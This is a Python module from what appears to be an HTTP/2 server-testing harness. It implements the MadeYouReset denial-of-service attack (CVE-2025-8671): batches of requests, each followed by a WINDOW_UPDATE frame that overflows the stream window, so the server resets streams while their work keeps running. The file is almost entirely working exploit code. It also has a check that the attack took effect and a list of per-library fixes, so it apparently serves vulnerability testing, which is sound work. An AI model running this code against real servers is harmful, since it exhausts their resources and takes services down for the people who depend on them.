"""MadeYouReset (CVE-2025-8671): valid requests to a route that does work, each followed by a frame the server must
answer by resetting the stream itself: a WINDOW_UPDATE that takes the stream's send window past 2^31-1 is a stream
error of type FLOW_CONTROL_ERROR (RFC 9113 section 6.9.1), which python-hyper's h2, hyper's h2 crate and Go all
answer with RST_STREAM (a stream error, not a connection error). The stream leaves the concurrency count while its
request may still run, and no RST_STREAM of the client's is there for a Rapid Reset limit to count. (The earlier
trigger, DATA after END_STREAM, is a connection error in hyper: it measured connection churn on granian.) The probe
exercised the path when the server reset streams with FLOW_CONTROL_ERROR."""
import struct

from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.data_dribble import PAD, reflect_request
from h2grid.attacks.hpackraw import literal, request
from h2grid.attacks.rapid_reset import CONNECTIONS, _frame

STREAMS = 100  # per batch
_HEADERS, _WINDOW_UPDATE, END_STREAM_AND_HEADERS = 0x1, 0x8, 0x5
OVERFLOW = struct.pack(">I", 2**31 - 1)  # on a window of 65,535 already: past the maximum


def opening(conn) -> bytes:
    return conn.headers(conn.stream_id(), request(conn, "GET", "/reflect") + literal(b"x-pad", b"p" * PAD, indexing=True))


def batch(conn) -> bytes:
    frames = bytearray()
    block = reflect_request(conn)
    for _ in range(STREAMS):
        sid = conn.stream_id()
        frames += _frame(_HEADERS, END_STREAM_AND_HEADERS, sid, block) + _frame(_WINDOW_UPDATE, 0, sid, OVERFLOW)
    return bytes(frames)


def exercised(sent: dict) -> str:
    if sent["rst_codes"].get("FLOW_CONTROL_ERROR"):
        return ""
    return ("the server reset no stream with FLOW_CONTROL_ERROR" + (f" (GOAWAY {', '.join(sent['goaway'])})"
                                                                    if sent["goaway"] else ""))


ATTACK = Attack(
    key="made-you-reset", title="MadeYouReset", cve="CVE-2025-8671",
    rfc="RFC 9113 section 6.9.1 (a window past 2^31-1 is a stream error the server answers with RST_STREAM)",
    sends=f"GET /reflect (a 45 KB answer) then a WINDOW_UPDATE overflowing its stream window, {STREAMS} streams per "
          f"write on {CONNECTIONS} connections at once, reading the resets",
    opening=opening, batch=batch, connections=CONNECTIONS, exercised=exercised,
    fixes=(Fix("h2-rust", "0.4.2", "limit on the streams the library resets itself (max_local_error_reset_streams, "
                                   "hyper 1.2; before the 2025 disclosure)"),
           Fix("go", "go1.21.3", "running handlers bounded by MaxConcurrentStreams whoever reset the stream "
                                 "(the CVE-2023-39325 fix); no Go advisory names CVE-2025-8671"),
           Fix("twisted", "", "its Rapid Reset bucket counts only the resets the peer sends"),
           Fix("hypercorn", "", "keep_alive_max_requests (0.16.0) counts these requests too: 1000 per connection")),
)
